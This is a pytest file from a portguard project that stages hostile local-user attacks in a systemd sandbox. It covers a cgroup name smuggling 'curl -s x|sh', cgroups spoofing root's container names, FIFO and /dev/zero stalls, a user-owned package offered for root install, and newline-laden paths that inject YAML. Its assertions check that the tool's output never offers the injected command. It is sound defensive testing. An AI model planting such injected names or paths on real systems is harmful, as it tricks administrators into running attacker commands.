"""Hostile local users, for real: what an unprivileged user names, in the systemd sandbox.

Each test stages an attack as a local user can (docs/security.md, "Hostile local users")
and asserts what the administrator cares about: no advice line of `who`, `status`,
`preflight` or `why` offers a command carrying the attacker's text, the wrong container is
never named, commands return within a bound, nothing is signalled.
"""

from __future__ import annotations

import json
import re
import shlex
import time
from pathlib import Path

import yaml
from support.cases import Case, config
from support.sandbox import LISTENER, PYTHON, REPO
from support.unprivileged import CAPLESS, shared_copy
from support.unprivileged import NOBODY as NOBODY_SETPRIV

INJECTION = "machine-a;curl -s x|sh;#.scope"
NOBODY = 65534
SYSTEM_PYTHON = "/usr/bin/python3"  # for User= units: the venv may be unreadable to them


def offered_commands(text: str) -> list[str]:
    """Every command a person is offered to paste: `...` in prose, `$ ...` lines."""
    found = re.findall(r"`([^`]*)`", text)
    found += [line.split("$ ", 1)[1] for line in text.splitlines()
              if line.lstrip().startswith("$ ")]
    return found


def assert_no_injected_command(text: str) -> None:
    assert "machinectl" not in text, text
    for cmd in offered_commands(text):
        lexer = shlex.shlex(cmd, posix=True, punctuation_chars=True)
        tokens = list(lexer)
        assert {t for t in tokens if set(t) <= set("();<>|&")} <= {"&&"}, cmd
        assert "curl" not in tokens and "sh" not in tokens, cmd


ROOT_ID = "5" * 64  # a container of root's docker, named "shop" in root's records
IRC = 39  # a system account whose home (/run/ircd) is on the sandbox's private /run
STORE = "/run/ircd/.local/share/containers/storage"


def user_scope_listener(case: Case, port: int, uid: int, user: str, scope: str) -> int:
    """A listener of `user` (in `user@UID.service`, delegated) that the user moves into a
    sub-cgroup of its own subtree named `scope`."""
    sb = case.sb
    listener = f"/run/listener-{case.uid}.py"
    sb.write_file(listener, Path(LISTENER).read_text(), mode=0o644)
    manager = f"user@{uid}.service"
    sb.write_unit(manager, f"[Service]\nUser={user}\nDelegate=yes\nSlice=user-{uid}.slice\n"
                           f"ExecStart={SYSTEM_PYTHON} {listener} --port {port}\n")
    case.units.append(manager)
    pid = case.start_listening(manager, port)
    base = f"/sys/fs/cgroup/user.slice/user-{uid}.slice/{manager}"
    moved = sb.run(["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups",
                    "sh", "-c", 'mkdir "$1" && echo "$2" > "$1/cgroup.procs"', "sh",
                    f"{base}/{scope}", str(pid)])
    assert moved.returncode == 0, moved.stderr
    return pid


def as_user(case: Case, uid: int, script: str) -> None:
    done = case.sb.run(["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups",
                        "sh", "-c", script])
    assert done.returncode == 0, done.stderr


def test_a_cgroup_named_like_a_machine_in_a_users_subtree_is_no_container(case: Case
                                                                         ) -> None:
    port = case.port()
    # any user may name cgroups in its own delegated subtree
    pid = user_scope_listener(case, port, NOBODY, "nobody", INJECTION)
    manager = f"user@{NOBODY}.service"
    assert case.sb.cgroup_of(pid) == f"/user.slice/user-{NOBODY}.slice/{manager}/{INJECTION}"
    web = case.unit(f"web-{case.uid}.service", "--port", str(port), guarded=False)
    case.config(config(port, web))

    who = case.sb.portguard("who", str(port))
    assert who.returncode == 1 and str(pid) in who.stdout, who.stdout + who.stderr
    assert "CONTAINER" not in who.stdout
    who_json = case.sb.portguard("--json", "who", str(port))
    [holder] = json.loads(who_json.stdout)["ports"][0]["holders"]
    assert (holder["pid"], holder["unit"], holder["container"]) == (pid, manager, None)

    preflight = case.preflight(web, "--dry-run")
    assert preflight.returncode == 1, preflight.stdout + preflight.stderr
    status = case.sb.portguard("--config", case.cfg, "status")
    # the unit's own start fails to bind, for real: `why` reads that
    case.start(web)
    case.sb.wait_unit_state(web, "failed", timeout=20)
    why = case.sb.portguard("--config", case.cfg, "why", web, timeout=60)
    assert why.returncode == 1, why.stdout + why.stderr
    assert str(pid) in why.stdout
    for done in (who, preflight, status, why):
        assert_no_injected_command(done.stdout + done.stderr)
    # and what portguard journaled for the refusal
    for record in case.records():
        assert_no_injected_command(record.get("MESSAGE", ""))
        assert "PORTGUARD_HOLDER_CONTAINER" not in record
    assert case.sb.pid_alive(pid)  # a foreign holder: never touched


def test_a_users_scope_named_after_roots_container_never_borrows_its_name(case: Case
                                                                         ) -> None:
    sb = case.sb
    sb.run(["sh", "-c", "mkdir -p /var/lib/docker && mount -t tmpfs -o mode=711 hostile "
            f"/var/lib/docker && mkdir -p /var/lib/docker/containers/{ROOT_ID} && printf "
            f"'%s' '{{\"ID\": \"{ROOT_ID}\", \"Name\": \"/shop\", \"Config\": "
            f"{{\"Image\": \"nginx:1\"}}}}' > /var/lib/docker/containers/{ROOT_ID}/"
            "config.v2.json"], check=True)
    port = case.port()
    pid = user_scope_listener(case, port, NOBODY, "nobody", f"docker-{ROOT_ID}.scope")
    done = sb.portguard("--json", "who", str(port))
    [holder] = json.loads(done.stdout)["ports"][0]["holders"]
    assert holder["pid"] == pid
    container = holder["container"]
    assert container is None or (container["name"] is None
                                 and container["user"] == "nobody"), container
    table = sb.portguard("who", str(port)).stdout
    assert "shop" not in table and "docker stop" not in table.replace(
        "runuser -u nobody -- docker stop", ""), table

    # root's own scope of that id is root's container, and keeps its name
    root_port = case.port()
    root_pid = sb.spawn(["systemd-run", "--scope", f"--unit=docker-{ROOT_ID}.scope",
                         "--quiet", SYSTEM_PYTHON, f"/run/listener-{case.uid}.py", "--port",
                         str(root_port)])
    case.pids.append(root_pid)
    case.wait_listening(root_port, root_pid)
    done = sb.portguard("--json", "who", str(root_port))
    [holder] = json.loads(done.stdout)["ports"][0]["holders"]
    assert (holder["container"]["name"], holder["container"]["user"]) == ("shop", None)


def test_a_fifo_or_a_link_to_dev_zero_in_a_users_store_cannot_stall_who(case: Case
                                                                        ) -> None:
    sb = case.sb
    ident = "7" * 64
    sb.run(["sh", "-c", f"mkdir -p {STORE}/overlay-containers && chown -R irc: /run/ircd"],
           check=True)
    port = case.port()
    pid = user_scope_listener(case, port, IRC, "irc", f"libpod-{ident}.scope")
    records = f"{STORE}/overlay-containers/containers.json"
    web = case.unit(f"web-{case.uid}.service", "--port", str(port), guarded=False)
    case.config(config(port, web))
    for plant in (f"mkfifo {records}", f"ln -s /dev/zero {records}"):
        as_user(case, IRC, f"rm -f {records} && {plant}")
        t0 = time.monotonic()
        done = sb.portguard("--json", "who", str(port), timeout=30)
        took = time.monotonic() - t0
        assert done.returncode == 1, done.stdout + done.stderr
        [holder] = json.loads(done.stdout)["ports"][0]["holders"]
        assert holder["pid"] == pid and holder["container"]["user"] == "irc"
        assert holder["container"]["name"] is None
        assert took < 5, (plant, took)
        # preflight's slow path names holders the same way: refused, within its bound
        t0 = time.monotonic()
        refused = case.preflight(web, "--dry-run")
        assert refused.returncode == 1 and time.monotonic() - t0 < 5, refused.stderr
    # a regular file of the user's own is read: its name for its own container
    as_user(case, IRC, f"rm -f {records} && printf '%s' '[{{\"id\": \"{ident}\", "
            f"\"names\": [\"chat\"]}}]' > {records}")
    done = sb.portguard("--json", "who", str(port))
    [holder] = json.loads(done.stdout)["ports"][0]["holders"]
    assert (holder["container"]["name"], holder["container"]["user"]) == ("chat", "irc")
    assert "runuser -u irc -- podman stop chat" in sb.portguard("who", str(port)).stdout


def test_install_refuses_a_portguard_that_others_can_change_and_changes_nothing(
        case: Case) -> None:
    """install's ExecStartPre=+ runs as root on every start: run from a copy of the
    package a user owns, it would hand that user root."""
    sb = case.sb
    unit = case.unit(f"inst-{case.uid}.service", "--port", str(case.port()), guarded=False)
    sb.systemctl("daemon-reload", check=True)
    copy = f"/tmp/eve-{case.uid}"
    sb.run(["sh", "-c", f"mkdir -p {copy} && cp -r {REPO}/portguard {copy}/ && "
            f"chown -R {NOBODY} {copy}"], check=True)
    done = sb.portguard("install", unit, env={"PYTHONPATH": copy})
    assert done.returncode == 1, done.stdout + done.stderr
    assert "refusing to install" in done.stderr and f"{copy}/portguard" in done.stderr
    assert "owned by uid 65534, not root" in done.stderr and "nothing was changed" in \
        done.stderr
    dropin = f"/etc/systemd/system/{unit}.d/portguard.conf"
    assert sb.run(["test", "-e", dropin]).returncode == 1
    assert sb.unit_property(unit, "ExecStartPre") == ""
    # root's own copy installs
    assert sb.portguard("install", unit).returncode == 0
    assert "preflight" in sb.unit_property(unit, "ExecStartPre")
    assert sb.portguard("uninstall", unit).returncode == 0


def test_status_as_a_user_who_cannot_read_the_holder_never_calls_the_service_another(
        case: Case) -> None:
    """Without the rights to read another user's fds, the service's own listener is the
    service's (the kernel says its cgroup made the socket), and a holder nobody can name
    is "holder unknown (needs root)", never "held by another"."""
    sb = case.sb
    own_port, other_port = case.port(), case.port()
    argv = shared_copy(sb, case.uid)
    unit = f"own-{case.uid}.service"
    sb.write_unit(unit, f"[Service]\nUser=nobody\nExecStart={' '.join(argv)} --port "
                        f"{own_port}\n")
    case.units.append(unit)
    case.start_listening(unit, own_port)
    stranger = sb.spawn([*NOBODY_SETPRIV, *argv, "--port", str(other_port)],
                        wait_exec=False)
    case.pids.append(stranger)
    case.wait_listening(other_port, stranger)
    case.write_config(f"services:\n  {unit}:\n    ports: [\"{own_port}\", \"{other_port}\"]\n")
    done = sb.run([*CAPLESS, PYTHON, "-m", "portguard", "--config", case.cfg, "status"],
                  env={"PYTHONPATH": str(REPO)})
    lines = done.stdout.splitlines()
    assert f"  port {own_port}: in use by the service (its cgroup made the socket; root " \
        "sees the process)" in lines, done.stdout + done.stderr
    assert f"  port {other_port}: HELD, holder unknown (needs root)" in lines, done.stdout
    assert "HELD BY ANOTHER" not in done.stdout
    assert done.returncode == 1  # a port is held, by whom this user cannot see
    # root sees both: its own listener, and a foreign process
    done = sb.portguard("--config", case.cfg, "status")
    assert f"  port {own_port}: in use by the service" in done.stdout.splitlines()
    assert f"  port {other_port}: HELD BY ANOTHER" in done.stdout.splitlines()


def test_a_program_path_with_line_breaks_cannot_declare_a_service_in_discover(
        case: Case) -> None:
    """A program under a directory whose name holds line breaks: discover's comments name
    it, and once a comment line ended there and the next declared a service."""
    sb, uid = case.sb, case.uid
    ghost = f"ghost-{uid}.service"
    evil = f"/tmp/e-{uid}\n  {ghost}: {{ports: [\"1\"]}}\n#"
    sb.run(["sh", "-c", 'mkdir -p "$1" && cp /usr/bin/python3 "$1/python3" && '
            f'cp {LISTENER} "$1/listener.py"', "sh", evil], check=True)
    unit_port, hand_port = case.port(), case.port()
    unit = f"prog-{uid}.service"
    # systemd takes no line break in an Exec path: the unit's script execs the program
    run = f"/tmp/run-{uid}.sh"
    sb.write_file(run, f"exec '{evil}/python3' '{evil}/listener.py' --port {unit_port}\n")
    sb.write_unit(unit, f"[Service]\nExecStart=/bin/sh {run}\n")
    case.units.append(unit)
    case.start_listening(unit, unit_port)
    hand = sb.spawn([f"{evil}/python3", f"{evil}/listener.py", "--port", str(hand_port)])
    case.pids.append(hand)
    case.wait_listening(hand_port, hand)

    done = sb.portguard("discover")
    assert done.returncode == 0, done.stderr
    assert f"\n{ghost}" not in done.stdout and f"\n  {ghost}" not in done.stdout
    written = f"/etc/portguard/discover-{uid}.yaml"
    assert sb.portguard("discover", "--write", written).returncode == 0
    checked = sb.portguard("--config", written, "check-config")
    assert checked.returncode == 0, checked.stdout + checked.stderr
    services = yaml.safe_load(sb.read_file(written))["services"]
    assert list(services) == [unit], services  # what ran in a unit, nothing else
    assert f"'{evil}" not in sb.read_file(written)  # the path only escaped, in comments
